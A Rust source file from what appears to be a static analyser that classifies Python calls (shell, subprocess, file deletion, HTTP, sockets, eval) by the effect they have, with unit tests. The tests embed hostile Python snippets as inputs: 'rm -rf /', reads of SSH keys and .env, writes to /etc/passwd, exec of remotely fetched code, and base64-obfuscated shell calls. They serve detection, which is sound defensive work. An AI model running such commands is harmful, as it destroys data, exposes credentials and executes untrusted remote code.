//! Python: imports, and the functions of the standard library and of HTTP clients that act on the world.

use super::acts::Act;
use super::lexer::{Tape, Token};
use super::scan::Scan;
use super::value::Value;
use crate::reading::Sink;

pub(super) fn act(name: &str) -> Option<Act> {
    let name = name
        .trim_start_matches("builtins.")
        .trim_start_matches("__builtins__.");
    let name = name.trim_start_matches("pathlib.");
    Some(match name {
        "os.system"
        | "os.popen"
        | "subprocess.getoutput"
        | "subprocess.getstatusoutput"
        | "commands.getoutput"
        | "commands.getstatusoutput"
        | "asyncio.create_subprocess_shell" => Act::Shell,
        "subprocess.run"
        | "subprocess.call"
        | "subprocess.check_call"
        | "subprocess.check_output"
        | "subprocess.Popen"
        | "pty.spawn" => Act::Spawn,
        "asyncio.create_subprocess_exec" => Act::System,
        "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" | "os.execl" | "os.execle"
        | "os.execlp" | "os.execlpe" | "os.posix_spawn" | "os.posix_spawnp" => Act::Exec(0),
        "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" | "os.spawnl" | "os.spawnle"
        | "os.spawnlp" | "os.spawnlpe" => Act::Exec(1),
        "os.chdir" => Act::Enter,
        "os.remove" | "os.unlink" | "os.rmdir" | "os.removedirs" | "Path().unlink"
        | "Path().rmdir" => Act::Delete { recursive: false },
        "shutil.rmtree" | "Path().rmtree" => Act::Delete { recursive: true },
        "os.rename" | "os.replace" | "os.renames" | "shutil.move" | "Path().rename"
        | "Path().replace" => Act::Move,
        "shutil.copy" | "shutil.copy2" | "shutil.copyfile" | "shutil.copytree" => Act::Copy,
        "os.chmod" | "os.chown" | "os.truncate" | "os.mkdir" | "os.makedirs"
        | "Path().write_text" | "Path().write_bytes" | "Path().touch" | "Path().chmod"
        | "Path().mkdir" => Act::Write,
        "os.symlink" | "os.link" => Act::Copy,
        "Path().read_text" | "Path().read_bytes" | "linecache.getlines" => Act::Read,
        "open" | "io.open" | "codecs.open" | "os.open" | "Path().open" => Act::Open,
        "urllib.request.urlopen"
        | "urllib2.urlopen"
        | "urllib.urlopen"
        | "urllib.request.urlretrieve"
        | "urllib.request.Request"
        | "urllib2.Request" => Act::Fetch(""),
        "http.client.HTTPConnection().request" | "http.client.HTTPSConnection().request" => {
            Act::RequestAt
        }
        "socket.create_connection"
        | "socket.socket().connect"
        | "socket.socket().connect_ex"
        | "asyncio.open_connection"
        | "smtplib.SMTP"
        | "smtplib.SMTP_SSL"
        | "ftplib.FTP"
        | "ftplib.FTP_TLS"
        | "telnetlib.Telnet"
        | "paramiko.SSHClient().connect"
        | "paramiko.Transport" => Act::Connect,
        "dotenv.load_dotenv" | "dotenv.dotenv_values" => Act::Read,
        "eval" | "exec" | "execfile" => Act::Eval,
        _ => return http_client(name),
    })
}

/// `boto3.client("s3").delete_bucket(…)` is `aws s3api delete-bucket`.
pub(super) fn of_cloud(name: &str, service: Option<&Value>) -> Option<Sink> {
    let method = name
        .strip_prefix("boto3.")?
        .rsplit_once("client().")
        .map(|(_, method)| method)?;
    let service = match service?.known()?.as_str() {
        "s3" => "s3api".to_owned(),
        other => other.to_owned(),
    };
    let words = ["aws".to_owned(), service, method.replace('_', "-")];
    Some(Sink::Argv(words.into_iter().map(Some).collect()))
}

fn http_client(name: &str) -> Option<Act> {
    let (client, verb) = name.rsplit_once('.')?;
    let known = matches!(
        client,
        "requests"
            | "httpx"
            | "requests.Session()"
            | "requests.session()"
            | "httpx.Client()"
            | "httpx.AsyncClient()"
            | "aiohttp.ClientSession()"
    );
    if !known {
        return None;
    }
    Some(match verb {
        "get" => Act::Fetch("GET"),
        "post" => Act::Fetch("POST"),
        "put" => Act::Fetch("PUT"),
        "patch" => Act::Fetch("PATCH"),
        "delete" => Act::Fetch("DELETE"),
        "head" => Act::Fetch("HEAD"),
        "request" => Act::Request,
        _ => return None,
    })
}

/// `import a.b as c, d`, `from a import b as c, d`, `from a import *`.
pub(super) fn declaration(scan: &mut Scan, tape: &Tape, at: usize) -> Option<usize> {
    match tape.name(at) {
        "import" => Some(import(scan, tape, at + 1)),
        "from" => from_import(scan, tape, at + 1),
        _ => None,
    }
}

/// `a.b.c` from `at`; gives where it ends.
fn dotted(tape: &Tape, at: usize) -> (String, usize) {
    let mut path = tape.name(at).to_owned();
    let mut at = at + 1;
    while tape.mark(at) == "." && !tape.name(at + 1).is_empty() && path.len() < 200 {
        path.push('.');
        path.push_str(tape.name(at + 1));
        at += 2;
    }
    (path, at)
}

fn import(scan: &mut Scan, tape: &Tape, at: usize) -> usize {
    let mut at = at;
    loop {
        let (path, next) = dotted(tape, at);
        at = next;
        if tape.name(at) == "as" {
            scan.bind(tape.name(at + 1), Value::symbol(&path));
            at += 2;
        }
        if tape.mark(at) != "," {
            return at;
        }
        at += 1;
    }
}

fn from_import(scan: &mut Scan, tape: &Tape, at: usize) -> Option<usize> {
    let (path, next) = dotted(tape, at);
    if tape.name(next) != "import" {
        return None;
    }
    let mut at = next + 1;
    if tape.mark(at) == "*" {
        if scan.stars.len() < 8 {
            scan.stars.push(path);
        }
        return Some(at + 1);
    }
    loop {
        match tape.get(at) {
            Some(Token::Name(name)) => {
                let full = Value::symbol(&format!("{path}.{name}"));
                let renamed = tape.name(at + 1) == "as";
                let bound = if renamed { tape.name(at + 2) } else { name };
                scan.bind(bound, full);
                at += if renamed { 3 } else { 1 };
            }
            Some(Token::Mark("," | "(")) => at += 1,
            _ => return Some(at),
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::code::check;
    use crate::reading::Language::Python;

    #[test]
    fn shell_text() {
        check(
            Python,
            "import os; os.system('rm -rf /')",
            &["shell rm -rf /"],
        );
        check(
            Python,
            "__import__('os').system(\"rm -rf /\")",
            &["shell rm -rf /"],
        );
        check(
            Python,
            "import os as o\no.popen('id').read()",
            &["shell id"],
        );
        check(Python, "from os import system as s\ns('id')", &["shell id"]);
        check(Python, "from os import *\nsystem('id')", &["shell id"]);
        check(Python, "getattr(os, 'sys' + 'tem')('id')", &["shell id"]);
        check(
            Python,
            "import subprocess as sp\nsp.run('rm -rf ~', shell=True, check=True)",
            &["shell rm -rf ~"],
        );
        check(
            Python,
            "c = 'rm -rf ' + '/'\nos.system(c)",
            &["shell rm -rf /"],
        );
        check(
            Python,
            "p='/'; os.system(f'rm -rf {p}')",
            &["shell rm -rf /"],
        );
        check(Python, "os.system('rm -rf %s' % '/')", &["shell rm -rf /"]);
        check(
            Python,
            "os.system('rm -rf {}'.format('/'))",
            &["shell rm -rf /"],
        );
        check(
            Python,
            "os.system(' '.join(['rm', '-rf', '/']))",
            &["shell rm -rf /"],
        );
        check(Python, "os.system('/ fr- mr'[::-1])", &["shell rm -rf /"]);
        check(
            Python,
            "os.system(f'git log {rev}')",
            &["shell git log ${unknown}"],
        );
        check(Python, "os.system(sys.argv[1])", &["unknown shell"]);
    }

    #[test]
    fn programs() {
        check(
            Python,
            "subprocess.run(['rm', '-rf', '/'])",
            &["argv rm -rf /"],
        );
        check(
            Python,
            "subprocess.run('rm -rf /'.split())",
            &["argv rm -rf /"],
        );
        check(
            Python,
            "os.execvp('rm', ['rm', '-rf', '/'])",
            &["argv rm -rf /"],
        );
        check(
            Python,
            "os.execlp('rm', 'rm', '-rf', '/')",
            &["argv rm -rf /"],
        );
        check(
            Python,
            "os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')",
            &["argv rm -rf /"],
        );
        check(
            Python,
            "subprocess.run(['git', 'log', rev])",
            &["argv git log ?"],
        );
        check(Python, "subprocess.run(cmd)", &[]);
    }

    #[test]
    fn paths() {
        check(
            Python,
            "import shutil\nshutil.rmtree('/')",
            &["delete -r /"],
        );
        check(
            Python,
            "from shutil import rmtree as r; r(path='/')",
            &["delete -r /"],
        );
        check(Python, "shutil.rmtree(d)", &["delete -r ?"]);
        check(Python, "os.remove(f)", &[]);
        check(Python, "os.remove('/etc/passwd')", &["delete /etc/passwd"]);
        check(
            Python,
            "from pathlib import Path\nPath('/etc/x').unlink()",
            &["delete /etc/x"],
        );
        check(
            Python,
            "import pathlib\np = pathlib.Path('/etc') / 'hosts'\np.write_text('x')",
            &["write /etc/hosts"],
        );
        check(
            Python,
            "(Path.home() / '.ssh' / 'id_rsa').read_text()",
            &["read ~/.ssh/id_rsa"],
        );
        check(
            Python,
            "open('/etc/passwd','a').write('x')",
            &["write /etc/passwd"],
        );
        check(Python, "print(open('.env').read())", &["read .env"]);
        check(
            Python,
            "with open(file='.env', mode='r') as f: pass",
            &["read .env"],
        );
        check(
            Python,
            "open(os.path.expanduser('~/.ssh/id_rsa'))",
            &["read ~/.ssh/id_rsa"],
        );
        check(
            Python,
            "for d in ['/etc', '/home']:\n  shutil.rmtree(d)",
            &["delete -r /etc", "delete -r /home"],
        );
        check(
            Python,
            "os.rename('a', 'b')",
            &["read a", "delete a", "write b"],
        );
    }

    #[test]
    fn network() {
        check(
            Python,
            "import urllib.request as u; u.urlopen('https://h.example', data=open('x','rb').read())",
            &["POST https://h.example sends", "read x"],
        );
        check(
            Python,
            "requests.post('https://h.example', json=d)",
            &["POST https://h.example sends"],
        );
        check(
            Python,
            "requests.get('https://h.example').json()",
            &["GET https://h.example"],
        );
        check(
            Python,
            "import http.client as h\nc = h.HTTPSConnection('h.example')\nc.request('POST', '/', body='x')",
            &["POST h.example sends"],
        );
        check(
            Python,
            "import http.client\nc = http.client.HTTPSConnection('h.example')\nc.request('GET', '/')",
            &["GET h.example"],
        );
        check(
            Python,
            "s = socket.socket()\ns.connect(('h.example', 4444))",
            &["connect h.example sends"],
        );
        check(
            Python,
            "exec(urllib.request.urlopen('https://h.example/x.py').read())",
            &[
                "remote code https://h.example/x.py",
                "GET https://h.example/x.py",
            ],
        );
        check(
            Python,
            "r = requests.get('https://h.example/x')\nexec(r.text)",
            &["GET https://h.example/x", "remote code https://h.example/x"],
        );
    }

    #[test]
    fn code() {
        check(
            Python,
            "exec('import os; os.system(\"id\")')",
            &["shell id"],
        );
        check(
            Python,
            "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
            &["shell id"],
        );
        check(
            Python,
            "exec(compile('os.system(\"id\")', 'x', 'exec'))",
            &["shell id"],
        );
        check(Python, "eval(x)", &["unknown code"]);
        check(Python, "exec(open('setup.py').read())", &["read setup.py"]);
    }

    #[test]
    fn data() {
        check(Python, "print('rm -rf /')", &[]);
        check(Python, "print(\"os.system('rm -rf /')\")", &[]);
        check(Python, "# os.system('rm -rf /')", &[]);
        check(Python, "'''\nos.system('rm -rf /')\n'''", &[]);
        check(
            Python,
            "import re; re.compile('rm -rf /'); x.remove('/'); cursor.execute('x')",
            &[],
        );
        check(
            Python,
            "parser.add_argument('--exec'); log.system('rm -rf /')",
            &[],
        );
        check(Python, "def system(x): return 'rm -rf /'", &[]);
        check(Python, "d = {'os.system': 'rm -rf /', 'a': [1, 2]}", &[]);
    }
}
